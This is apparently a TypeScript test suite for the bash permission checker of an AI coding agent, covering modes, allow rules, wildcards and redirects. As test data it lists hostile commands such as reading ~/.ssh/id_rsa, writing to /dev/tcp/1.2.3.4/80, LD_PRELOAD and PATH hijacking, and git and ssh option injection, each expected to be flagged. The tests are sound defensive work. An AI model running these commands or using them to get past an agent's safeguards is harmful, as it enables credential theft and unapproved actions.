// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createTestPermissions, decisionOnBash, decisionsOnBash, sameDecisionForEach } from '../test-engine.js'

test('commands that only look run in every mode', async () => {
  const commands = [
    ...[
      'echo out; echo err >&2; cat a.txt',
      'echo par',
      'sleep 2; echo one',
      'ls',
      'ls -la src | wc -l',
      'cat *.md',
      'wc -l src/*.ts',
      'pwd && ls',
      'echo $?',
      'echo $HOME',
    ],
    ...[
      'grep -rn "/api/users" src',
      "find src -type f -name '*.ts'",
      'head -n 20 src/a.ts',
      'cat < a.txt',
      'ls 2>/dev/null',
      'ls > /dev/null 2>&1',
      'cat a | sort | uniq -c',
    ],
    ...[
      'git status',
      'git log --oneline -5 | head -3',
      'git diff --stat HEAD~1..HEAD',
      'git branch -a',
      'git remote -v',
      'git stash list',
      'git rev-parse HEAD',
    ],
    ...[
      'for f in a b; do echo $f; done',
      'if [ -f a.txt ]; then cat a.txt; fi',
      '[[ -f a.txt ]] && cat a.txt',
      'echo $((1+2))',
      'cd src && ls',
      'cd . && git status',
      'cd src && git status',
      'git -C . status',
    ],
    ...[
      "sed -n '1,5p' a.txt",
      'LANG=C ls',
      'timeout 5 ls',
      "'ls' -la",
      'cat <<E\nhello\nE',
      "cat <<'E'\n$(touch x)\nE",
      'set -euo pipefail; ls',
      'date +%s',
      'command -v node',
    ],
    ...[
      'diff <(ls src) <(ls .)',
      'printf "%s\\n" a',
      'x=1; echo $x',
      "echo 'a; touch PWNED'",
      'rg foo src',
      'which node',
      'node --version',
      'true',
      ':',
    ],
  ]
  for (const mode of ['default', 'plan', 'dontAsk', 'acceptEdits', 'bypassPermissions'] as const) {
    assert.deepEqual(
      await decisionsOnBash(createTestPermissions({ mode }), commands),
      sameDecisionForEach(commands, 'allow'),
      mode,
    )
  }
})

test('commands that do more, look elsewhere, or are not known, ask', async () => {
  const commands = [
    ...[
      'node -e 1',
      'npm test',
      'curl x',
      'touch x',
      'mkdir x',
      'env',
      'printenv',
      'echo $SECRET',
      'tee out',
      'uniq a b',
      'date -s now',
      'docker -H tcp://x ps',
      'eval ls',
      'exec ls',
    ],
    ...[
      'cat /etc/passwd',
      'cat ../x',
      'cat ~/.ssh/id_rsa',
      'ls /',
      'cd',
      'cd -',
      'cd /etc && cat passwd',
      'cd "$D" && ls',
      'cat < /etc/passwd',
      'cd /repo-evil && ls',
      'cat "$f"',
      'diff ~someone/a b',
    ],
    ...[
      'sort *.txt',
      'find . -name *.js',
      'git diff -- src/*',
      'cd /etc && git status',
      'git -C /etc status',
      'git branch foo',
      'git fetch',
      'git tag v1',
      'git config a b',
      'git log -p --ext-diff',
    ],
    ...[
      'sort -o x a',
      'sort --outp=x a',
      'find . -delete',
      'find . -fprint x',
      'sed -i s/a/b/ a',
      'file -f list',
      'rg --pre x y',
      'git diff --no-index /etc/passwd x',
      'git log --output=x',
    ],
    ...[
      'ls > out',
      'ls >> out',
      'ls &> out',
      'ls > "$F"',
      '{ ls; } > out',
      'for f in a; do ls; done > out',
      'ls > /dev/tcp/1.2.3.4/80',
      '> out',
      'ls > ~/x',
      'ls > o*',
    ],
    ...[
      'ls `touch x`',
      'cat <<E\n$(touch x)\nE',
      'ls & touch x',
      '/bin/ls',
      './ls',
      '$x',
      '"ls"$x',
      'ls\u00a0-la',
      'ls\u200b',
      'ls\r',
      'echo \u202e',
      "echo 'x",
      'ls )',
      'echo a'.repeat(3000),
    ],
    ...[
      'PATH=. ls',
      'LD_PRELOAD=./x ls',
      'PATH=.; ls',
      'export PATH=.; ls',
      'alias ls=x; ls',
      'ls() { touch x; }; ls',
      'trap x DEBUG; ls',
      'hash -p x ls; ls',
      'source x; ls',
      'enable -n echo; echo x',
    ],
    ...[
      '[[ $x -eq 0 ]] && ls',
      '((x++)); ls',
      'echo $((x))',
      'echo ${x@P}',
      "test -v 'a[$(x)]'",
      "printf -v 'a[$(x)]' y",
      'for PATH in .; do ls; done',
      'cat list | xargs cat',
      'LC_ALL=/x ls',
    ],
  ]
  assert.deepEqual(await decisionsOnBash(createTestPermissions(), commands), sameDecisionForEach(commands, 'ask'))
  assert.deepEqual(
    await decisionsOnBash(createTestPermissions({ mode: 'dontAsk' }), commands),
    sameDecisionForEach(commands, 'deny'),
  )
})

test('an allow rule covers its command behind documented wrappers and safe variables only', async () => {
  const permissions = createTestPermissions({ allow: ['Bash(npm test *)'] })
  const covered = [
    ...[
      'npm test',
      'npm test -- --x',
      'npm test 2>&1 | head -5',
      'NODE_ENV=test npm test',
      'CI=1 NO_COLOR=1 npm test',
      'export NODE_ENV=test && npm test',
      'npm test; npm test',
    ],
    ...[
      'timeout 60 npm test',
      'timeout -k 5 60s npm test',
      'time -p npm test',
      'nice -n 5 npm test',
      'nohup npm test',
      'command npm test',
      'stdbuf -oL npm test',
      'timeout 5 nice npm test',
    ],
  ]
  assert.deepEqual(await decisionsOnBash(permissions, covered), sameDecisionForEach(covered, 'allow'))
  const open = [
    ...[
      'npm  test',
      'npm testx',
      './npm test',
      '"npm" test',
      'npm test && npm run x',
      'FOO=1 npm test',
      'NODE_OPTIONS=-r=./x npm test',
      'npm test > out',
      'npm test --script-shell=./x',
    ],
    ...[
      'sudo npm test',
      'env npm test',
      'exec npm test',
      "sh -c 'npm test'",
      'eval npm test',
      'npx npm test',
      'xargs -I{} npm test',
      'time -o out npm test',
      'nice --odd npm test',
      'PATH=.; npm test',
    ],
  ]
  assert.deepEqual(await decisionsOnBash(permissions, open), sameDecisionForEach(open, 'ask'))
})

test('a wildcard does not cover options and programs that run or write something else; the exact words do', async () => {
  const cases: [string, string][] = [
    ['find *', 'find . -exec x {} \\;'],
    ['find *', 'find . -name x -delete'],
    ['sort *', 'sort -uoout a'],
    ['rg *', 'rg --pre ./x y'],
    ['tar *', 'tar -I ./x -cf o a'],
    ['tar *', 'tar xf a --to-command=./x'],
    // Wrappers that can't be looked through.
    ['command *', 'command c? test'],
    ['timeout *', 'timeout $LIMIT npm test'],
    ['git *', 'git -c core.pager=x log'],
    ['git *', 'git grep -O./x y'],
    ['git *', 'git rebase -x y HEAD'],
    ['git *', 'git config core.hooksPath x'],
    ['git *', 'git push --receive-pack=x .'],
    ['git *', 'git clone ext::x y'],
    ['git *', 'git add *'],
    ['awk *', 'awk -f x y'],
    ['sed *', "sed 's/a/b/e' x"],
    ['vim *', 'vim x'],
    ['watch *', 'watch ls'],
    ['setsid *', 'setsid ls'],
    ['flock *', 'flock l ls'],
    ['env *', 'env ls'],
    ['xargs *', 'xargs -n1 ls'],
    ['bash *', "bash -c 'ls'"],
    ['ssh *', 'ssh -o ProxyCommand=x y'],
    ['curl *', 'curl -o x y'],
    ['let *', "let 'a[$(x)]=1'"],
  ]
  for (const [pattern, command] of cases) {
    assert.equal(await decisionOnBash(createTestPermissions({ allow: [`Bash(${pattern})`] }), command), 'ask', command)
    const exact = command.replaceAll('\\', '\\\\').replaceAll('*', '\\*').replaceAll('(', '\\(').replaceAll(')', '\\)')
    assert.equal(
      await decisionOnBash(createTestPermissions({ allow: [`Bash(${exact})`] }), command),
      'allow',
      `exactly ${command}`,
    )
  }
})

test('a wildcard covers no copy that follows links, no list of other files, and no cleaning it does not name', async () => {
  const permissions = createTestPermissions({
    allow: ['Bash(cp *)', 'Bash(tar *)', 'Bash(bsdtar *)', 'Bash(rsync *)', 'Bash(scp *)', 'Bash(git *)'],
  })
  const plain = [
    ...['cp -r src copy', 'cp -L a b', 'tar czf x.tgz src', 'tar -tf x.tgz', 'rsync -an src/ copy', 'scp a b'],
    ...['git add .', 'git clean -nd', 'git clean --dry-run', 'git commit -F message.txt', 'git ls-files -Xpatterns'],
    ...['git commit -m x', 'git log --format=%H', 'git -C src commit -m x'],
  ]
  const more = [
    ...[
      'cp -rL src copy',
      'cp -R --deref src copy',
      'tar czhf x.tgz src',
      'tar -cf x.tar -T list',
      'bsdtar -cLf x.tar src',
    ],
    ...[
      'tar cf x.tar --files-from=list',
      'rsync -aL src/ copy',
      '/usr/bin/rsync --copy-links src/ copy',
      'scp -r src copy',
    ],
    ...[
      'rsync -a --files-from=list . copy',
      'git clean -fd',
      'git clean -x',
      'git commit -F /etc/passwd',
      'git commit -aF/etc/passwd',
      'git commit -F',
    ],
    ...[
      'git ls-files --exclude-f=/etc/passwd -h',
      'git -P ls-files -X /etc/passwd -h',
      'git grep -hF x --add-file ../y',
    ],
  ]
  assert.deepEqual(await decisionsOnBash(permissions, [...plain, ...more]), {
    ...sameDecisionForEach(plain, 'allow'),
    ...sameDecisionForEach(more, 'ask'),
  })
  for (const rule of ['Bash(git clean *)', 'Bash(git clean:*)', 'Bash(git clean -fd)'])
    assert.equal(await decisionOnBash(createTestPermissions({ allow: [rule] }), 'git clean -fd'), 'allow', rule)
  assert.equal(await decisionOnBash(createTestPermissions({ allow: ['Bash(git c*)'] }), 'git clean -fd'), 'ask')
  const settings = createTestPermissions({ allow: ['Bash(git config *)'] })
  assert.equal(await decisionOnBash(settings, 'git config x.y z'), 'allow')
  assert.equal(await decisionOnBash(settings, 'git config --global x.y z'), 'ask')
  assert.equal(await decisionOnBash(settings, 'git config -f x x.y z'), 'ask')
  assert.equal(
    await decisionOnBash(
      createTestPermissions({ allow: ['Bash(git config --global *)'] }),
      'git config --global x.y z',
    ),
    'allow',
  )
})

test('patterns', async () => {
  const table: [string, string, string][] = [
    ['ls *', 'lsof -i', 'ask'],
    ['ls*', 'lsof -i', 'allow'],
    ['npm run test:*', 'npm run test --watch', 'allow'],
    ['npm run test:*', 'npm run tests', 'ask'],
    ['git:* push', 'git push', 'ask'],
    ['git * main', 'git merge main', 'allow'],
    ['make build', 'make build', 'allow'],
    ['make build', 'make build x', 'ask'],
    ['python *', "python -c 'print(1)'", 'allow'],
    ['git commit *', "git commit -m 'x; rm y'", 'allow'],
    ['git commit *', 'git commit -m "$(cat <<\'E\'\nmy message\nE\n)"', 'allow'],
    ['make a && make b', 'make a && make b', 'allow'],
    ['awk *', "awk '{print $1}' a.txt", 'allow'],
    ['sed *', "sed -i 's/a/b/g' a.txt", 'allow'],
    ['sed *', "sed -i 's/a/b/g' /etc/hosts", 'ask'],
    ['cat *', 'cat /etc/hosts', 'ask'],
    ['mkdir:*', 'mkdir d1', 'allow'],
    ['mkdir:*', 'mkdir /opt/d1', 'ask'],
    ['mkdir:*', 'mkdir .git/x', 'ask'],
    ['cat /etc/hosts', 'cat /etc/hosts', 'allow'],
    ['npx *', 'npx jest', 'allow'],
    ['ssh *', 'ssh host ls', 'allow'],
  ]
  for (const [pattern, command, expected] of table) {
    const rule = `Bash(${pattern.replaceAll('(', '\\(').replaceAll(')', '\\)')})`
    assert.equal(
      await decisionOnBash(createTestPermissions({ allow: [rule] }), command),
      expected,
      `${command} by ${rule}`,
    )
  }
})

test('redirects are writes of their own', async () => {
  const echo = createTestPermissions({ allow: ['Bash(echo *)', 'Edit(src/**)'] })
  assert.deepEqual(
    await decisionsOnBash(echo, [
      'echo x > src/a',
      'echo x > a',
      'echo x > src/../a',
      'echo x > /dev/null',
      'echo x > .git/x',
    ]),
    {
      'echo x > src/a': 'allow',
      'echo x > a': 'ask',
      'echo x > src/../a': 'ask',
      'echo x > /dev/null': 'allow',
      'echo x > .git/x': 'ask',
    },
  )
  const bare = createTestPermissions({ allow: ['Bash', 'Edit(.claude/**)'], links: { '/repo/lnk': '/repo/.git' } })
  assert.deepEqual(
    await decisionsOnBash(bare, [
      'npm i > out.txt',
      'echo x > /tmp/a',
      'f=out; echo x > $f',
      'f=.claude/a; echo x > $f',
      "echo '{}' >> .claude/a",
      'tee lnk/config',
      'cp x .git/y',
      'echo x >> ~/.bashrc',
    ]),
    {
      'npm i > out.txt': 'allow',
      'echo x > /tmp/a': 'allow',
      'f=out; echo x > $f': 'allow',
      'f=.claude/a; echo x > $f': 'ask',
      "echo '{}' >> .claude/a": 'ask',
      'tee lnk/config': 'ask',
      'cp x .git/y': 'ask',
      'echo x >> ~/.bashrc': 'ask',
    },
  )
})

test('acceptEdits covers the file commands inside the working directories', async () => {
  const permissions = createTestPermissions({
    mode: 'acceptEdits',
    directories: ['/shared'],
    links: { '/repo/lnk': '/home/u/.bashrc', '/repo/out': '/tmp/x' },
  })
  const covered = [
    ...[
      'touch src/x',
      'mkdir -p a/b',
      'rm a.txt',
      'rm -rf node_modules',
      'rmdir empty',
      'mv a b',
      'cp -r a b',
      "sed -i 's/a/b/' a",
      'echo x > notes.txt',
      'timeout 5 touch x',
    ],
    ...['LANG=C touch x', 'touch /shared/x', 'mkdir a && touch a/b && ls a', 'cp a /shared/b', 'cd src && touch x'],
  ]
  assert.deepEqual(await decisionsOnBash(permissions, covered), sameDecisionForEach(covered, 'allow'))
  const open = [
    ...[
      'touch /tmp/x',
      'rm ../x',
      'mv a $D',
      'cp -t /etc a',
      'cp /etc/passwd a',
      'ln -s /etc x',
      'chmod +x a',
      'npm publish',
      "sed -i 's/a/id/e' a",
      "sed -i 'w /etc/x' a",
    ],
    ...[
      'sed -i s/a/b/ .git/config',
      'mv x .claude/settings.json',
      'echo x > lnk',
      'touch out/x',
      'FOO=1 touch x',
      'touch $(x)',
      'cd src && echo x > a',
      'mkdir x && npm i',
      'touch -r /etc/x a',
    ],
  ]
  assert.deepEqual(await decisionsOnBash(permissions, open), sameDecisionForEach(open, 'ask'))
})

test('plan mode asks for everything that does more than look, whatever rules say', async () => {
  const writes = ['> a.txt', 'ls > a.txt', 'case x in *) ;; esac > a.txt', 'cat b.txt &> a.txt']
  const edits = createTestPermissions({ mode: 'plan', allow: ['Edit(*.txt)', 'Edit', 'Bash(ls *)'] })
  assert.deepEqual(await decisionsOnBash(edits, writes), sameDecisionForEach(writes, 'ask'))
  const permissions = createTestPermissions({ mode: 'plan', allow: ['Bash', 'Bash(npm *)', 'Edit'] })
  assert.deepEqual(
    await decisionsOnBash(permissions, ['grep -rn x src', 'npm install', 'echo x > plan.txt', 'touch a']),
    {
      'grep -rn x src': 'allow',
      'npm install': 'ask',
      'echo x > plan.txt': 'ask',
      'touch a': 'ask',
    },
  )
})

test('the hint for running commands at the same time', async () => {
  const permissions = createTestPermissions()
  assert.equal(permissions.isReadOnlyCommand('ls'), false)
  await permissions.prepare()
  assert.deepEqual(
    ['ls', 'echo par', 'cat a | head', 'touch x', 'ls > x', 'f() { ls; }', 'X=1', '$x', "echo 'x", ''].map(
      permissions.isReadOnlyCommand,
    ),
    [true, true, true, false, false, false, false, false, false, false],
  )
})

test('a rule for a program does not let the shell list folders elsewhere', async () => {
  const given = { allow: ['Bash(test *)', 'Bash(mytool *)'], present: ['/out/a', '/repo/a'] }
  const asked = ['test -v /out/*', 'mytool /out/*', 'mytool ../out/*']
  assert.deepEqual(await decisionsOnBash(createTestPermissions(given), asked), sameDecisionForEach(asked, 'ask'))
  const allowed = ['mytool /out/a', 'mytool *', 'mytool src/**/*.ts', "mytool '/out/*'"]
  assert.deepEqual(await decisionsOnBash(createTestPermissions(given), allowed), sameDecisionForEach(allowed, 'allow'))
})

test('what follows the file of xxd is written, and tar calls other machines', async () => {
  const given = { allow: ['Bash(xxd *)', 'Bash(tar *)'], present: ['/repo/a'] }
  const asked = ['xxd a -p', 'xxd -p a b', 'tar cf host:x.tar a', 'tar -cf user@host:/x a', 'tar --file=host:x -c a']
  assert.deepEqual(await decisionsOnBash(createTestPermissions(given), asked), sameDecisionForEach(asked, 'ask'))
  const allowed = ['xxd -p a', 'xxd a', 'tar cf x.tar a', 'tar --force-local -cf 12:30.tar a', 'tar cf ./x:y.tar a']
  assert.deepEqual(await decisionsOnBash(createTestPermissions(given), allowed), sameDecisionForEach(allowed, 'allow'))
})

test('a folder to go to says nothing of what is redirected there', async () => {
  const commands = [
    'cd src < /dev/tcp/127.0.0.1/9',
    'ls | cd src < /dev/udp/127.0.0.1/9',
    'cd src < /home/u/.ssh/id_rsa',
  ]
  for (const mode of ['default', 'acceptEdits'] as const)
    assert.deepEqual(
      await decisionsOnBash(createTestPermissions({ mode, present: ['/home/u/.ssh/id_rsa'] }), commands),
      sameDecisionForEach(commands, 'ask'),
    )
  assert.equal(
    await decisionOnBash(createTestPermissions({ present: ['/repo/src/a'] }), 'cd src < /repo/src/a'),
    'allow',
  )
})
